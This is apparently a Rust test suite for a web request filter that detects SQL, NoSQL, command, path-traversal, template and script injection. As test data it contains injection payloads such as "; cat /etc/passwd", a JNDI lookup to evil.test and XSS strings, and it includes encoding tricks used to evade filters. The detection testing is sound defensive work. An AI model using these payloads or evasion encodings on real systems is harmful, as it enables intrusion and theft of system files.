//! What the filter as a whole must do: find attacks, let ordinary fields pass, stay linear.

mod ceiling;

use proptest::prelude::*;

use super::*;
use crate::clock::Now;
use crate::inspect::detect::rule::{FilterRule, compile};
use crate::inspect::detect::text::steps;
use crate::mistake::source::Source;
use crate::mistake::{Mistakes, Reading, read};

const ORDINARY: &str = include_str!("../../../../tests/corpus/ordinary.txt");
const ATTACKS: [(&str, &str); 6] = [
    ("sql", include_str!("../../../../tests/corpus/attacks-sql.txt")),
    ("nosql", include_str!("../../../../tests/corpus/attacks-nosql.txt")),
    ("command", include_str!("../../../../tests/corpus/attacks-command.txt")),
    ("path-traversal", include_str!("../../../../tests/corpus/attacks-path-traversal.txt")),
    ("template", include_str!("../../../../tests/corpus/attacks-template.txt")),
    ("script", include_str!("../../../../tests/corpus/attacks-script.txt")),
];
/// 2026-11-23.
const NOW: Now = Now { steady_ns: 0, unix_ms: 1_795_392_000_000 };

fn compiled(text: &str) -> (Option<Filter>, Vec<String>) {
    let source = Source::new("policies/policy.toml", format!("[f]\n{text}"));
    let mut mistakes = Mistakes::default();
    let mut filter = None;
    for entry in read::top(&source, &mut mistakes) {
        let span = entry.span.clone();
        let Some(rule) = read::rule::<FilterRule>("a filter", entry.node, &source, &mut mistakes)
        else {
            continue;
        };
        let mut reading = Reading { source: &source, mistakes: &mut mistakes };
        let origin = reading.origin("filters.f", &span);
        filter = compile(&rule, &origin, &mut reading, NOW);
    }
    let shown =
        mistakes.iter().map(|mistake| format!("{} {}", mistake.code.number(), mistake.says));
    (filter, shown.collect())
}

fn filter(text: &str) -> Filter {
    let (filter, mistakes) = compiled(text);
    filter.unwrap_or_else(|| panic!("{mistakes:?}"))
}

fn examined(filter: &Filter, kind: PlaceKind, text: &str) -> Option<Objection> {
    let name: &dyn std::fmt::Display = match kind {
        PlaceKind::Path => &"path",
        PlaceKind::Query => &"query.q",
        PlaceKind::Header => &"header.user-agent",
        PlaceKind::Body => &"body.description",
    };
    filter.examine(&Place { kind, name }, text)
}

/// The lines of a corpus; `⏎` stands for the end of a line within a case.
fn cases(corpus: &str) -> impl Iterator<Item = String> {
    corpus.lines().filter(|line| !line.is_empty()).map(|line| line.replace('⏎', "\n"))
}

#[test]
fn each_detector_finds_its_class_alone() {
    let mut failed = false;
    for (class, corpus) in ATTACKS {
        let filter = filter(&format!("detect = [\"{class}\"]\n"));
        let missed: Vec<String> = cases(corpus)
            .filter(|case| examined(&filter, PlaceKind::Query, case).is_none())
            .collect();
        let count = cases(corpus).count();
        #[expect(clippy::cast_precision_loss, reason = "a few hundred")]
        let recall = 1.0 - missed.len() as f64 / count as f64;
        println!("{class}: recall {recall:.3} of {count}");
        for case in &missed {
            println!("  missed: {}", case.escape_debug());
        }
        assert!(count >= 120, "{class} has only {count} cases");
        failed |= recall < 0.97;
    }
    assert!(!failed);
}

#[test]
fn ordinary_fields_pass_everywhere() {
    let filter = filter("");
    let mut refused = 0;
    for case in cases(ORDINARY) {
        for kind in [PlaceKind::Query, PlaceKind::Header, PlaceKind::Body] {
            // A lone step up the tree is a file name in a query, and prose elsewhere.
            if kind == PlaceKind::Query && case.starts_with("../") {
                continue;
            }
            if let Some(objection) = examined(&filter, kind, &case) {
                println!("{kind:?} {case:?}: {}", objection.detail);
                refused += 1;
            }
        }
    }
    assert!(cases(ORDINARY).count() >= 600);
    assert_eq!(refused, 0);
}

#[test]
fn headers_of_ordinary_clients_pass() {
    let filter = filter("");
    for value in [
        "*/*",
        "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
        "text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2",
        "application/vnd.api+json; profile=\"https://example.com/p\"",
        "en-US,en;q=0.9,de-CH;q=0.8,*;q=0.5",
        "gzip, deflate, br, zstd",
        "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
        "application/x-www-form-urlencoded; charset=UTF-8",
        "attachment; filename=\"report (final).pdf\"; filename*=UTF-8''r%C3%A9sum%C3%A9.pdf",
        "sha-256=:X48E9qOokqqrvdts8nOJRJN3OWDUoyWxBf7kbu9DBPE=:",
        "W/\"67ab43\", \"54ed21\", \"7892dd\"",
        "\"33a64df551425fcc55e4d42a148795d9f25f89d4\"",
        "bytes=0-499, -500",
        "Wed, 21 Oct 2026 07:28:00 GMT",
        "\"Chromium\";v=\"128\", \"Not;A=Brand\";v=\"24\", \"Google Chrome\";v=\"128\"",
        "u=1, i",
        "max-age=0, no-cache",
        "dGhlIHNhbXBsZSBub25jZQ==",
        "permessage-deflate; client_max_window_bits",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36",
        "session_id",
        "__Host-next-auth.csrf-token",
    ] {
        let objection = examined(&filter, PlaceKind::Header, value);
        assert!(objection.is_none(), "{value}: {}", objection.unwrap().detail);
    }
}

#[test]
fn a_field_is_examined_only_where_the_filter_looks() {
    let filter = filter("look_in = [\"query\"]\n");
    assert!(filter.looks_in(PlaceKind::Query) && !filter.looks_in(PlaceKind::Body));
    assert!(examined(&filter, PlaceKind::Query, "' or 1=1--").is_some());
    assert!(examined(&filter, PlaceKind::Body, "' or 1=1--").is_none());
}

#[test]
fn an_exception_covers_its_field_and_its_kinds_alone() {
    let filter = filter(
        "except = [{ field = \"body.desc*\", detect = [\"xss\"], why = \"Markdown\", until = 2026-12-15 }]\n",
    );
    let script = "<script>alert(1)</script>";
    assert!(examined(&filter, PlaceKind::Body, script).is_none());
    assert!(examined(&filter, PlaceKind::Query, script).is_some());
    let objection = examined(&filter, PlaceKind::Body, "' or 1=1--").unwrap();
    assert_eq!(objection.reason, Reason::Sql);
    assert_eq!(objection.origin.rule(), "filters.f");
}

#[test]
fn an_objection_tells_kind_view_structure_and_a_clean_excerpt() {
    let filter = filter("");
    let text = format!("%27 %55nion%09%73elect%201,{}", "x".repeat(500));
    let objection = examined(&filter, PlaceKind::Query, &text).unwrap();
    assert!(objection.detail.starts_with("sql, decoded once: "), "{}", objection.detail);
    assert!(objection.detail.chars().count() < 160, "{}", objection.detail);
    assert!(!objection.detail.chars().any(char::is_control));
    assert!(!objection.observe);
}

#[test]
fn observation_needs_a_reason_and_an_end() {
    let (made, mistakes) = compiled("mode = \"observe\"\n");
    assert!(made.is_none() && mistakes[0].starts_with("P0209"), "{mistakes:?}");
    let (made, mistakes) = compiled("mode = \"observe\"\nwhy = \"new\"\nuntil = 2026-11-23\n");
    assert!(made.is_none() && mistakes[0].starts_with("P0210"), "{mistakes:?}");
    let (made, mistakes) = compiled("mode = \"observe\"\nwhy = \"new\"\nuntil = 2026-11-24\n");
    assert!(mistakes[0].starts_with("W0404"), "{mistakes:?}");
    assert!(examined(&made.unwrap(), PlaceKind::Query, "' or 1=1--").unwrap().observe);
}

#[test]
fn all_mistakes_of_a_filter_are_reported_at_once() {
    let (made, mistakes) = compiled(
        "look_in = [\"boddy\"]\ndetect = []\ndecode = 9\nsensitivity = \"max\"\nmode = \"of\"\n\
         except = [{ field = \"title\", why = \"x\" }, { field = \"path\" }, { field = \"body.x\", why = \"y\", until = 2020-01-01 }]\n",
    );
    assert!(made.is_none());
    assert_eq!(mistakes.len(), 8, "{mistakes:#?}");
    let (made, mistakes) = compiled("until = \"soon\"\n");
    assert!(made.is_none() && mistakes[0].contains("not a day"), "{mistakes:?}");
}

#[test]
fn sensitivity_moves_the_threshold() {
    let weak = "the users' or 1";
    let sure = "1 union select 1,2 from users";
    let likely = "admin'--";
    let found = |level: &str, text: &str| {
        examined(&filter(&format!("sensitivity = \"{level}\"\n")), PlaceKind::Query, text).is_some()
    };
    assert!(found("low", sure) && found("normal", sure) && found("high", sure));
    assert!(!found("low", likely) && found("normal", likely) && found("high", likely));
    assert!(!found("low", weak));
}

#[test]
fn more_layers_than_are_taken_off_are_refused() {
    let filter = filter("decode = 1\n");
    let once = |text: &str| text.replace('%', "%25");
    let plain = "a%20b";
    assert!(examined(&filter, PlaceKind::Query, &once(plain)).is_none());
    let objection = examined(&filter, PlaceKind::Query, &once(&once(plain))).unwrap();
    assert_eq!(objection.reason, Reason::EncodingLayers);
}

#[test]
fn an_attack_behind_much_text_is_found() {
    let filter = filter("");
    for padding in [60_000, 65_530, 70_000, 200_000] {
        let text = format!("{} <script>alert(1)</script>", "word ".repeat(padding / 5));
        assert!(examined(&filter, PlaceKind::Body, &text).is_some(), "{padding}");
    }
}

/// Byte reads that one byte of a field may cost, over all detectors and views. The figure is
/// generous; what it forbids is work that grows with the square of the length.
const STEPS_PER_BYTE_MAX: usize = 6000;

/// Pieces that make detectors begin something.
const HOSTILE: [&str; 64] = [
    "'",
    "\"",
    "`",
    "<",
    "<a ",
    "<a b=",
    "${",
    "{{",
    "{%",
    "{",
    "#{",
    "..",
    "../",
    "/",
    "/?",
    "((",
    "' or ",
    "(select ",
    "1,",
    ";",
    "; a",
    "|",
    "$(",
    "` ",
    "x=",
    "onx=",
    "alert(",
    "alert ",
    "%25",
    "&#",
    "\\x",
    "/*",
    "/**/",
    "--",
    "\n",
    "a=",
    "$x",
    "()",
    "eval(",
    "db.",
    ")(",
    "$ne",
    "[](!",
    "union ",
    "data:",
    "javascript:",
    "file://",
    "\u{2019}",
    "a b ",
    "case when ",
    "if(",
    "char(",
    "or 1=",
    ".env",
    "__proto__",
    "!entity",
    "<!doctype ",
    "}}",
    "t(",
    "jndi:",
    "\0",
    "+",
    "a'b ",
    "return true",
];

#[test]
fn hostile_fields_cost_linear_work() {
    let filter = filter("decode = 3\nsensitivity = \"low\"\n");
    for unit in HOSTILE {
        for length in [4 << 10, 64 << 10] {
            let text = unit.repeat(length / unit.len());
            steps::take();
            let _ = examined(&filter, PlaceKind::Body, &text);
            let taken = steps::take();
            assert!(
                taken <= text.len() * STEPS_PER_BYTE_MAX,
                "{unit:?}: {} per byte of {length}",
                taken / text.len()
            );
        }
    }
}

const CORE: [&str; 8] = [
    "' or 1=1--",
    "1 union select 1,2 from users",
    "'; return true; var x='",
    "; cat /etc/passwd",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.test/a}",
    "{{7*7}}",
    "<img src=x onerror=alert(1)>",
];

fn percent_all(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

fn disguised(text: &str, disguise: usize) -> String {
    let wide = |character: char| match character {
        '!'..='~' => char::from_u32(u32::from(character) + 0xfee0).unwrap(),
        other => other,
    };
    match disguise {
        0 => percent_all(text),
        1 => text.chars().map(|character| format!("&#{};", u32::from(character))).collect(),
        2 => {
            text.chars()
                .map(|character| format!("&#x{:x}", u32::from(character)))
                .collect::<Vec<_>>()
                .join(";")
                + ";"
        }
        3 => text.bytes().map(|byte| format!("\\x{byte:02x}")).collect(),
        4 => text.bytes().map(|byte| format!("\\u00{byte:02X}")).collect(),
        5 => text.bytes().map(|byte| format!("%u00{byte:02x}")).collect(),
        6 => text.chars().map(wide).collect(),
        7 => text.chars().flat_map(|character| [character, '\u{200b}']).collect(),
        8 => text.replace(' ', "+"),
        _ => text.to_uppercase(),
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn disguises_that_decode_promises_to_take_off_do_not_help(
        core in 0..CORE.len(), first in 0_usize..10, second in 0_usize..10, cased in any::<u64>(),
    ) {
        let filter = filter("");
        let mixed: String = CORE[core].chars().enumerate().map(|(index, character)| {
            if cased >> (index % 64) & 1 == 1 { character.to_ascii_uppercase() } else { character }
        }).collect();
        let once = disguised(&mixed, first);
        prop_assert!(examined(&filter, PlaceKind::Query, &once).is_some(), "{once}");
        // Spaces written as `+` are undone only in a text without spaces, and letter case of an
        // escape is not free; the rest may be nested.
        if first < 8 && second < 8 && !(second == 6 || first >= 6 && matches!(second, 4 | 5)) {
            let twice = disguised(&once, second);
            prop_assert!(examined(&filter, PlaceKind::Query, &twice).is_some(), "{twice}");
        }
    }

    #[test]
    fn comments_and_white_space_do_not_help(space in "((/\\*[a-z]{0,3}\\*/|\t|\n|  ){1,2}|\\+)", all in any::<bool>()) {
        let filter = filter("detect = [\"sql\"]\n");
        let middle = if all { format!("{space}all") } else { String::new() };
        let text = format!("1'{space}union{middle}{space}select{space}1,2{space}from{space}users");
        prop_assert!(examined(&filter, PlaceKind::Body, &text).is_some(), "{text}");
    }

    #[test]
    fn no_field_makes_a_filter_panic(text in any::<String>(), raw in proptest::collection::vec(any::<u8>(), 0..200)) {
        let filter = filter("sensitivity = \"high\"\ndecode = 3\n");
        let _ = examined(&filter, PlaceKind::Body, &text);
        let _ = examined(&filter, PlaceKind::Path, &String::from_utf8_lossy(&raw));
    }

    #[test]
    fn no_soup_of_telling_pieces_makes_a_filter_panic(pieces in proptest::collection::vec(
        proptest::sample::select(vec!["'", "\"", "<", ">", "$", "{", "}", "(", ")", "%", "%2", "%u", "&#x", "\\", "\\u{", ";", "|", "`", "..", "/", "--", "/*", "*/", "#", "=", " ", "\n", "\0", "or", "union", "select", "1", "x", "a", "script", "on", "alert", "$ne", "é", "\u{ff1c}", "e", "0x", "@@", "c:", "()", "{{", "${"]), 0..40)
    ) {
        let filter = filter("sensitivity = \"low\"\ndecode = 3\n");
        let _ = examined(&filter, PlaceKind::Query, &pieces.concat());
    }
}
